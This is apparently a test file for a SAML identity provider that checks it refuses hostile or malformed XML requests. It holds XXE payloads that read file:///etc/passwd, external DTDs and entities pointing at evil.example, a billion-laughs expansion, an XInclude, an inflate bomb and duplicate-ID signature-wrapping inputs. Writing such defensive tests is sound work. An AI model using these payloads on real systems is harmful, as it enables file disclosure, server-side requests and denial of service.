/** Threats, section 1: what is sent instead of proper XML, by both bindings. */
import { deflateRawSync } from 'node:zlib';
import type { CheckId } from '../../src/core/checks/catalogue.js';
import { expect } from 'chai';
import { aRelyingParty } from '../support/builders.js';
import { authnRequest, isForm, keyPairOf, testIdp, type TestIdp } from '../support/saml-idp.js';
import { signXml } from '../support/signed-requests.js';
import { type Answer, byPost, byRedirect, expectRefused, statusOf } from './attempt.js';

type Bend = (xml: string) => string | Buffer;

const decodable = 'request.decodable';
const ISSUER = 'https://app.example/metadata';
const inIssuer =
  (text: string): Bend =>
  (xml) =>
    xml.replace(`>${ISSUER}<`, `>${text}<`);
const inside =
  (text: string): Bend =>
  (xml) =>
    xml.replace('</samlp:AuthnRequest>', `${text}</samlp:AuthnRequest>`);
const onRoot =
  (text: string): Bend =>
  (xml) =>
    xml.replace('<samlp:AuthnRequest ', `<samlp:AuthnRequest ${text} `);
const ahead =
  (text: string): Bend =>
  (xml) =>
    text + xml;
const extended = (text: string): Bend => inside(`<samlp:Extensions>${text}</samlp:Extensions>`);
const utf16 = (text: string, order: 'le' | 'be', mark: boolean): Buffer => {
  const bytes = Buffer.from((mark ? '\uFEFF' : '') + text, 'utf16le');
  return order === 'le' ? bytes : bytes.swap16();
};

const laughs = `<!DOCTYPE lolz [<!ENTITY a "ha">${'bcdefghij'
  .split('')
  .map((name, at) => `<!ENTITY ${name} "${`&${'abcdefghi'.charAt(at)};`.repeat(10)}">`)
  .join('')}]>`;
const DTD = '<!DOCTYPE a [<!ENTITY b "c">]>';

const cases: readonly (readonly [name: string, bend: Bend, check?: CheckId, answer?: Answer])[] = [
  ['X01: a DTD with an entity', ahead(DTD)],
  ['X01: a DTD with nothing in it', ahead('<!DOCTYPE AuthnRequest>')],
  ['X01: an external DTD', ahead('<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">')],
  ['X01: an external entity used', (xml) => `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>${String(inIssuer('&x;')(xml))}`],
  ['X01: a parameter entity', ahead('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>')],
  ['X01: a default attribute', ahead('<!DOCTYPE a [<!ATTLIST samlp:AuthnRequest ForceAuthn CDATA "false">]>')],
  ['X01: an ID declaration', ahead('<!DOCTYPE a [<!ATTLIST saml:Issuer x ID #IMPLIED>]>')],
  ['X01, BND-22: billion laughs', (xml) => laughs + String(inIssuer('&j;')(xml))],
  ['X01: a DTD after the XML declaration', ahead(`<?xml version="1.0" encoding="UTF-8"?>\n${DTD}`)],
  ['X01: a DTD in UTF-16LE', (xml) => utf16(`<?xml version="1.0" encoding="UTF-16"?>${DTD}${xml}`, 'le', true)],
  ['X01: a DTD in UTF-16BE', (xml) => utf16(`<?xml version="1.0" encoding="UTF-16"?>${DTD}${xml}`, 'be', true)],
  ['X01: a DTD in UTF-16 without a mark', (xml) => utf16(`${DTD}${xml}`, 'le', false)],
  ['X01: a DTD that claims UTF-7', (xml) => `<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-${xml}`],
  ['X01: a DTD inside the root', inside(DTD)],
  ['X02: a comment that ends the Issuer early', inIssuer(`${ISSUER}<!---->.evil.example`)],
  ['X02: a comment in a name', inside('<saml:Subject><saml:NameID>maria<!-- -->.silva</saml:NameID></saml:Subject>')],
  ['X02: a comment between elements', inside('<!-- -->')],
  ['X02: a comment before the root', ahead('<!-- -->')],
  ['X03: a processing instruction in the Issuer', inIssuer(`${ISSUER}<?x y?>`)],
  ['X03: a stylesheet', ahead('<?xml-stylesheet href="http://evil.example/"?>')],
  ['X03: one after the root', (xml) => `${xml}<?x y?>`],
  ['X03: a second XML declaration', inside('<?xml version="1.0"?>')],
  ['X04: CDATA as the Issuer', inIssuer(`<![CDATA[${ISSUER}]]>`)],
  ['X04: CDATA in a name', inside('<saml:Subject><saml:NameID>ma<![CDATA[ria]]></saml:NameID></saml:Subject>')],
  ['X04: an element inside the Issuer', inIssuer('https://app.example/<b/>metadata'), 'request.schema'],
  [
    'X04: an element inside a name',
    inside('<saml:Subject><saml:NameID>ma<b xmlns="urn:b">x</b>ria</saml:NameID></saml:Subject>'),
    'request.schema',
    ['Requester'],
  ],
  ['X04: an entity reference nobody declared', inIssuer('&issuer;')],
  ['X05: two roots', (xml) => xml + xml],
  ['X05: text after the root', (xml) => `${xml}junk`],
  ['X05: text before the root', ahead('junk')],
  ['X05: an attribute in an end tag', (xml) => xml.replace('</samlp:AuthnRequest>', '</samlp:AuthnRequest ID="_2">')],
  ['X05: the same attribute twice', onRoot('ID="_2"')],
  ['X05: the same attribute under two prefixes', onRoot('xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="2"')],
  ['X05: an element that is never closed', inside('<a>')],
  ['X05: an end tag for nothing', inside('</a>')],
  ['X05: a bare ampersand', inIssuer('a&b')],
  ['X05: a bare less-than in an attribute', onRoot('x="<"')],
  ['X05: an attribute without quotes', onRoot('x=1')],
  ['X05: half a message', (xml) => xml.slice(0, xml.length / 2)],
  ['X05: text between the elements', inside('junk'), 'request.schema', ['Requester']],
  ['X07: the root in another namespace', (xml) => xml.replace('SAML:2.0:protocol', 'SAML:2.0:protocol#'), 'request.schema'],
  ['X07: the root in none', (xml) => xml.replaceAll('samlp:', '').replace('xmlns:samlp', 'xmlns:other'), 'request.schema'],
  ['X07: an Issuer of another namespace', (xml) => xml.replace('SAML:2.0:assertion', 'SAML:1.0:assertion'), 'request.issuer-known'],
  ['X07: the namespace with white space around it', (xml) => xml.replace('"urn:oasis:names:tc:SAML:2.0:protocol"', '" urn:oasis:names:tc:SAML:2.0:protocol"')],
  ['X07: the namespace with a line feed at its end', (xml) => xml.replace('SAML:2.0:protocol"', 'SAML:2.0:protocol&#10;"')],
  ['X07: an undeclared prefix', inside('<x:a/>')],
  ['X07: a prefix declared as another', onRoot('xmlns:xml="urn:evil"')],
  ['X08: an ID twice', extended('<a xmlns="urn:a" ID="_request1"/>'), 'request.signature-valid'],
  ['X08: an ID twice in another spelling', extended('<a xmlns="urn:a" Id="_request1"/>'), 'request.signature-valid'],
  ['X08: an ID twice, with a prefix', extended('<a xmlns="urn:a" xmlns:w="urn:w" w:Id="_request1"/>'), 'request.signature-valid'],
  ['X08: an ID with a prefix beside the one without', onRoot('samlp:ID="_2"'), 'request.signature-valid'],
  ['X08: two IDs in two spellings', onRoot('Id="_request1"'), 'request.signature-valid'],
  ['X09: a relative namespace name', onRoot('xmlns:r="relative/name"')],
  ['X09: an empty one', onRoot('xmlns:r=""')],
  ['X09: a default one that is relative', inside('<a xmlns="foo"/>')],
  ['X11, BND-22: 5,000 elements deep', inside(`${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`)],
  ['X11: 5,000 deep and never closed', inside('<a>'.repeat(5000))],
  ['X11: 20,000 attributes', onRoot(Array.from({ length: 20_000 }, (_, at) => `a${String(at)}=""`).join(' '))],
  ['X11: 2,000 namespaces', onRoot(Array.from({ length: 2000 }, (_, at) => `xmlns:n${String(at)}="urn:n"`).join(' '))],
  ['X11: 30,000 elements', extended('<a/>'.repeat(30_000))],
  ['X11: a comment that never ends', inside(`<!--${'-'.repeat(100_000)}`)],
  ['X11: an attribute that never ends', (xml) => `${xml.slice(0, -1)} x="${'y'.repeat(100_000)}`],
  ['X11: a tag that never ends', inside(`<${'a'.repeat(100_000)}`)],
  ['X11: very many character references', inIssuer('&#x41;'.repeat(30_000)), 'request.issuer-known'],
  ['X12: an XInclude', inside('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'), 'request.schema', ['Requester']],
  ['X13: UTF-16LE with a mark', (xml) => utf16(xml, 'le', true)],
  ['X13: UTF-16BE with a mark', (xml) => utf16(xml, 'be', true)],
  ['X13: UTF-16 without a mark', (xml) => utf16(xml, 'le', false)],
  ['X13: UTF-32', (xml) => Buffer.concat(Array.from(xml, (character) => Buffer.of(0, 0, 0, character.charCodeAt(0))))],
  ['X13: UTF-8 with a mark', ahead('\uFEFF')],
  ['X13: a claim of UTF-16 over UTF-8', ahead('<?xml version="1.0" encoding="UTF-16"?>')],
  ['X13: a claim of Latin-1', ahead('<?xml version="1.0" encoding="ISO-8859-1"?>')],
  ['X13: XML 1.1', ahead('<?xml version="1.1"?>')],
  ['X13: NUL', inIssuer(`${ISSUER}\0`)],
  ['X13: NUL by reference', inIssuer(`${ISSUER}&#0;`)],
  ['X13: a control character', inIssuer(`${ISSUER}\u0008`)],
  ['X13: bytes that are not UTF-8', (xml) => Buffer.concat([Buffer.from(xml.slice(0, -22)), Buffer.of(0xc0, 0xaf), Buffer.from(xml.slice(-22))])],
  ['X13: a surrogate in UTF-8', (xml) => Buffer.concat([Buffer.of(0xed, 0xa0, 0x80), Buffer.from(xml)])],
  ['no XML at all', () => 'hello'],
  ['JSON', () => '{"a":1}'],
  ['HTML', () => '<!doctype html><html><body></body></html>'],
  ['nothing but white space', () => '   \n'],
];

describe('attacks on reading XML', () => {
  let idp: TestIdp;
  beforeEach(async () => {
    idp = await testIdp(aRelyingParty());
  });

  for (const [name, bend, check = decodable, answer = 'page'] of cases) {
    it(name, async () => {
      const octets = bend(authnRequest(idp.clock));
      for (const send of [byRedirect, byPost]) await expectRefused(idp, () => send(idp, octets), { answer, check });
    });
  }

  it('X11, BND-22: 10 MB', async () => {
    const octets = Buffer.from(`${authnRequest(idp.clock)}${' '.repeat(10_000_000)}`);
    const query = `SAMLRequest=${encodeURIComponent(deflateRawSync(octets).toString('base64'))}`;
    const SAMLRequest = octets.toString('base64');
    await expectRefused(idp, () => idp.post('/saml/sso', { SAMLRequest }), { answer: 'page', check: 'request.size' });
    await expectRefused(idp, () => idp.get('/saml/sso', query), { answer: 'page', check: 'request.size' });
  });

  it('X10: an inflate bomb, bytes after the stream, half a stream, an encoding nobody knows', async () => {
    const stream = deflateRawSync(authnRequest(idp.clock));
    const send = (bytes: Buffer, more = ''): ReturnType<TestIdp['get']> =>
      idp.get('/saml/sso', `SAMLRequest=${encodeURIComponent(bytes.toString('base64'))}${more}`);
    const bomb = deflateRawSync(Buffer.alloc(20_000_000));
    await expectRefused(idp, () => send(bomb), { answer: 'page', check: 'request.size' });
    const check = 'request.decodable';
    await expectRefused(idp, () => send(Buffer.concat([stream, stream])), { answer: 'page', check });
    await expectRefused(idp, () => send(Buffer.concat([stream, Buffer.of(0)])), { answer: 'page', check });
    await expectRefused(idp, () => send(stream.subarray(0, -4)), { answer: 'page', check });
    await expectRefused(idp, () => send(stream, '&SAMLEncoding=urn%3Aother'), { answer: 'page', check });
  });

  it('X12: what points elsewhere and is not acted on is left alone: schemaLocation, xml:base, foreign extensions (CORE-12, IIP-EXT01)', async () => {
    const xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:a http://evil.example/a.xsd" xml:base="http://evil.example/"';
    // Whatever foreign elements call each other is theirs, too.
    const extension = extended(
      '<a xmlns="urn:a" id="1" xml:id="x" xmlns:w="urn:w" w:Id="_2"/><b xmlns="urn:b" id="1"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><a xmlns="urn:a" b="c"/>',
    );
    const xml = String(extension(String(onRoot(xsi)(authnRequest(idp.clock)))));
    for (const send of [byRedirect, byPost]) expect(statusOf(isForm(await send(idp, xml)).xml)).to.deep.equal(['Success']);
  });

  it('X12: whatever would have to be fetched is refused inside a signature', async () => {
    const pair = await keyPairOf('sp.example');
    idp.parties.set(ISSUER, aRelyingParty({ signingCertificates: [pair.certificate] }));
    const signed = signXml(authnRequest(idp.clock), pair);
    for (const pointer of [
      '<ds:RetrievalMethod URI="http://evil.example/key"></ds:RetrievalMethod>',
      '<d:KeyInfoReference xmlns:d="http://www.w3.org/2009/xmldsig11#" URI="#_1"></d:KeyInfoReference>',
      '<x:Include xmlns:x="http://www.w3.org/2004/08/xop/include" href="cid:a"></x:Include>',
    ]) {
      const bent = signed.replace('<ds:KeyInfo>', `<ds:KeyInfo>${pointer}`);
      expect(bent).to.not.equal(signed);
      await expectRefused(idp, () => byPost(idp, bent), { answer: 'page', check: 'request.signature-valid', control: () => byPost(idp, signed) });
    }
  });
});
